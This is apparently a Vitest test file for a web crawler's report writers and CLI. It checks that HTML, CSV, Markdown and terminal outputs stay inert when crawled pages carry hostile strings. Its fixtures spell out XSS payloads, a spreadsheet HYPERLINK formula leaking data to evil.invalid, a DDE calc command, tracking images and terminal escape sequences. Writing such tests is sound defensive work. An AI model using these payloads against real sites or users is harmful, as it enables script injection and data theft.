/**
 * Crawls a local site whose every string is a payload (script tags, event handlers, javascript:
 * URLs, markup breakers, spreadsheet formulas, Markdown links, terminal escapes) with the real main
 * job, then checks each report as its reader would open it: report.html in headless Chromium, the
 * CSVs as a spreadsheet reads them, summary.md as GitHub renders it, and the CLI in a terminal.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { load } from 'cheerio';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, type LaunchedBrowser } from '../../crawler/browser.ts';
import { loadConfig } from '../../crawler/config-file.ts';
import { runSiteJob } from '../../crawler/job.ts';
import { renderHtmlReport } from '../../crawler/report/html.ts';
import { REPORT_WRITERS } from '../../crawler/report/formats.ts';
import { writeReports } from '../../crawler/report/writers.ts';
import type { StaticServer } from '../../crawler/serve.ts';
import type { CrawlReport } from '../../shared/schemas/index.ts';
import { zmotInProcess as zmot } from '../helpers/cli.ts';
import { SHARED_FIXTURES } from '../helpers/paths.ts';
import {
  HOSTILE_CONFIG,
  HOSTILE_SITE,
  TERMINAL_CONTROLS,
  asShownText,
  formulaCells,
  markdownProblems,
  openReport,
  readCsv,
  serveHostileSite,
  withoutCsp,
  type BrowserFindings,
} from './inert.ts';

let server: StaticServer;
let chromium: LaunchedBrowser;
let outDir: string;
let report: CrawlReport;

beforeAll(async () => {
  server = await serveHostileSite();
  outDir = await mkdtemp(path.join(os.tmpdir(), 'zmot-hostile-'));
  const config = await loadConfig(HOSTILE_CONFIG);
  report = (await runSiteJob({ startUrl: `${server.origin}/`, config, outDir })).report;
  chromium = await launchChromium();
}, 180_000);

afterAll(async () => {
  await chromium?.close();
  await server?.close();
  if (outDir) await rm(outDir, { recursive: true, force: true });
});

/** Nothing from page content ran, loaded or injected markup. */
function expectInert(f: BrowserFindings) {
  expect(f.dialogs, 'a dialog opened').toEqual([]);
  expect(f.pwned, 'a payload ran').toEqual({ flag: undefined, element: false, titleHijacked: false });
  expect(f.pageErrors, 'a script error').toEqual([]);
  expect(f.consoleErrors, 'a console error').toEqual([]);
  expect(f.cspViolations, 'something tried to run or load and the CSP stopped it').toEqual([]);
  expect(f.requests, 'the report fetched something').toEqual([]);
  expect(f.scripts, 'only the report’s own script').toBe(1);
  expect(f.dataBlocks, 'only the report’s own data blocks').toEqual(['zmot-first', 'zmot-rows', 'zmot-detail']);
  expect(f.foreignTags, 'elements that came from page content').toEqual([]);
  expect(f.handlerAttributes, 'event-handler attributes').toEqual([]);
  expect(f.scriptUrls, 'javascript:/data: URLs in attributes').toEqual([]);
  expect(f.nonHttpLinks, 'links to non-http(s) targets').toEqual([]);
}

const titleOf = (url: string) => report.pages.find((p) => p.url === url || p.url.startsWith(url))?.title ?? '';

describe('a crawl of the hostile site', () => {
  it('carries the payloads into the report, so the checks below test something', () => {
    const titles = report.pages.map((p) => p.title ?? '').join('\n');
    expect(titles).toContain('<img src=x onerror="window.__pwned=1;alert(1)">');
    expect(titles).toContain('</title></td></tr></table><div id="pwned">');
    expect(titles).toContain('=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for a discount")');
    expect(titles).toContain('[click me](javascript:alert(1)) ![img](http://evil.invalid/track.png) | pipe |');
    expect(titles).toContain('\u001b]8;;http://evil.invalid/\u0007click me');
    expect(report.pages.some((p) => p.url.includes('javascript:alert(1)'))).toBe(true);
    expect(report.site.name).toContain('<img src=x onerror="window.__pwned=1">');
    // The parser bombs page is read, with the text that follows the bombs.
    expect(titleOf(`${server.origin}/bombs.html`)).toBe('Parser bombs');
  });

  it('report.html runs nothing from page content and loads nothing, with its CSP', async () => {
    expectInert(await openReport(chromium.browser, path.join(outDir, 'report.html')));
  });

  it('report.html stays inert without its CSP: escaping alone holds', async () => {
    expectInert(await openReport(chromium.browser, await withoutCsp(path.join(outDir, 'report.html'))));
  });

  it('report.html shows each payload as text where it shows it', async () => {
    const f = await openReport(chromium.browser, path.join(outDir, 'report.html'));
    const text = f.text;
    expect(text).toContain(asShownText(report.site.name ?? ''));
    for (const p of report.pages) if (p.title) expect(text, `title of ${p.url}`).toContain(asShownText(p.title));
    for (const q of report.questions) expect(text, `question ${q.question.id}`).toContain(asShownText(q.question.text));
    for (const g of report.gaps) expect(text, `gap ${g.questionId}`).toContain(asShownText(g.question));
    for (const i of report.issues) expect(text, `issue ${i.type}`).toContain(asShownText(i.message));
  });

  it('pages.csv, questions.csv and issues.csv hold no cell a spreadsheet would run as a formula', async () => {
    for (const name of ['pages.csv', 'questions.csv', 'issues.csv']) {
      const rows = readCsv(await readFile(path.join(outDir, name), 'utf8'));
      expect(rows.length, `${name} rows`).toBeGreaterThan(1);
      expect(formulaCells(rows), name).toEqual([]);
    }
  });

  it('pages.csv keeps each title, only prefixed with an apostrophe where it starts like a formula', async () => {
    const rows = readCsv(await readFile(path.join(outDir, 'pages.csv'), 'utf8'));
    const [header, ...body] = rows;
    const url = header.indexOf('url');
    const title = header.indexOf('title');
    for (const p of report.pages) {
      const row = body.find((r) => r[url] === p.url);
      expect(row, p.url).toBeDefined();
      const expected = p.title == null ? '' : /^[=+\-@\t\r]/.test(p.title) ? `'${p.title}` : p.title;
      expect(row![title]).toBe(expected);
    }
  });

  it('summary.md has no raw HTML, no links or images from page content, no broken table rows, no control characters', async () => {
    const md = await readFile(path.join(outDir, 'summary.md'), 'utf8');
    expect(markdownProblems(md)).toEqual({ rawHtml: [], scriptLinks: [], images: [], brokenRows: [], controls: [] });
  });

  it('zmot report rebuilds from the hostile crawl and prints no terminal control characters', async () => {
    for (const args of [['report', outDir, '--out', path.join(outDir, 'rebuilt')], ['report', outDir, '--out', path.join(outDir, 'rebuilt'), '--json']]) {
      const r = await zmot(args);
      expect(r.code, r.stderr).toBe(0);
      expect(controlLines(r)).toEqual([]);
    }
  });
});

/** Lines of CLI output that hold a control or bidi-override character, quoted for the failure message. */
function controlLines(r: { stdout: string; stderr: string }): string[] {
  return `${r.stdout}${r.stderr}`.split('\n').filter((l) => TERMINAL_CONTROLS.test(l)).map((l) => JSON.stringify(l.slice(0, 120)));
}

describe('the CLI on hostile files', () => {
  it('zmot serp prints a results page whose titles, queries and links carry payloads without control characters', async () => {
    // A real saved results page (no-JavaScript layout) with every result title, link and related search poisoned.
    const $ = load(await readFile(path.join(SHARED_FIXTURES, 'serp/google-nojs-2023-google-nojs.html'), 'utf8'));
    const poison = ['\u001b]8;;http://evil.invalid\u0007click\u001b]8;;\u0007', '\u001b[2J\u001b[H', '<script>alert(1)</script>', '\u202eexe.pdf', '\u009b31m', '=cmd|\' /C calc\'!A0'];
    $('h3').each((i, el) => void $(el).text(`${poison[i % poison.length]} result ${i}`));
    $('a[href]').each((i, el) => void $(el).attr('href', `${$(el).attr('href')}${$(el).attr('href')?.includes('?') ? '&' : '?'}x=${poison[i % poison.length]}`));
    $('input[name="q"]').attr('value', `leak sensor ${poison[0]} ${poison[3]}`);
    const file = path.join(outDir, 'hostile-serp.html');
    await writeFile(file, $.html());
    for (const args of [['serp', file], ['serp', file, '--json']]) {
      const r = await zmot(args);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain('result 1');
      expect(controlLines(r), args.join(' ')).toEqual([]);
    }
  });

  for (const file of ['terminal.html', 'structured.html', 'long.html']) {
    it(`prints ${file} without terminal control characters, as text and as JSON`, async () => {
      const target = path.join(HOSTILE_SITE, file);
      for (const args of [['page', target, '--question', 'How much does it cost?'], ['page', target, '--json']]) {
        const r = await zmot(args);
        expect(r.code, r.stderr).toBe(0);
        expect(r.stdout.length).toBeGreaterThan(0);
        expect(controlLines(r), args.join(' ')).toEqual([]);
      }
    });
  }
});

/** Every string in a value, replaced by what `poison` makes of it: objects and arrays walked. */
function mapStrings<T>(value: T, poison: (s: string, key: string) => string, key = ''): T {
  if (typeof value === 'string') return poison(value, key) as T;
  if (Array.isArray(value)) return value.map((v) => mapStrings(v, poison, key)) as T;
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [poison(k, 'key'), mapStrings(v, poison, k)])) as T;
  }
  return value;
}

/** Fields the writers read as enums or ids: poisoning them only tests our own constants. */
const KEEP = new Set(['stage', 'severity', 'scoreDisplayMode', 'schemaVersion', 'name', 'generatedAt', 'startedAt', 'finishedAt', 'source']);
const PAYLOAD = `"'><img src=x onerror=alert(1)></td></tr></table><div id=pwned></div><script>window.__pwned=1</script>]]>--> =cmd|' /C calc'!A0 | [x](javascript:alert(1)) ![i](http://evil.invalid/i.png) \u001b[2J\u202e`;

describe('the report writers on a report where every string carries a payload', () => {
  let poisoned: CrawlReport;
  let dir: string;
  /** What every registered format but JSON wrote (crawler/report/formats.ts), by file extension. */
  let written: string[];
  const ofType = (ext: string) => written.filter((f) => path.extname(f) === ext);

  beforeAll(async () => {
    const tool = report.tool;
    poisoned = mapStrings(report, (s, key) => (KEEP.has(key) || key === 'key' ? s : /url$/i.test(key) || key === 'origin' ? `${s}?${PAYLOAD}` : `${PAYLOAD}${s}`));
    poisoned = { ...poisoned, tool, site: { ...poisoned.site, name: `${PAYLOAD}${report.site.name}` } };
    // Formula payloads at the very start of the cells that take page text.
    poisoned.pages = poisoned.pages.map((p, i) => ({ ...p, title: ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1'][i % 6] + (p.title ?? '') }));
    dir = await mkdtemp(path.join(os.tmpdir(), 'zmot-poisoned-'));
    // The JSON writer validates against the schema; the others render what they are given. A format
    // registered later is written here too, and must be checked below (CONTRIBUTING.md, "Add a report format").
    written = await writeReports(poisoned, dir, REPORT_WRITERS.filter((w) => w.id !== 'json'));
  });

  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('every file a registered format writes is of a kind checked here', () => {
    expect(written.map((f) => path.basename(f))).toEqual(expect.arrayContaining(['report.html', 'pages.csv', 'summary.md']));
    expect(written.filter((f) => !['.html', '.csv', '.md'].includes(path.extname(f))), 'a format with no hostile-content check: add one in this file').toEqual([]);
  });

  it('report.html stays inert, with and without its CSP', async () => {
    expect(renderHtmlReport(poisoned)).toContain('&lt;img src=x onerror=alert(1)&gt;');
    for (const file of ofType('.html')) {
      expectInert(await openReport(chromium.browser, file));
      expectInert(await openReport(chromium.browser, await withoutCsp(file)));
    }
  });

  it('the CSVs hold no formula cell', async () => {
    expect(ofType('.csv').length).toBeGreaterThanOrEqual(3);
    for (const file of ofType('.csv')) {
      const rows = readCsv(await readFile(file, 'utf8'));
      expect(rows.length, file).toBeGreaterThan(1);
      expect(formulaCells(rows), file).toEqual([]);
    }
  });

  it('summary.md stays inert', async () => {
    for (const file of ofType('.md')) expect(markdownProblems(await readFile(file, 'utf8')), file).toEqual({ rawHtml: [], scriptLinks: [], images: [], brokenRows: [], controls: [] });
  });
});
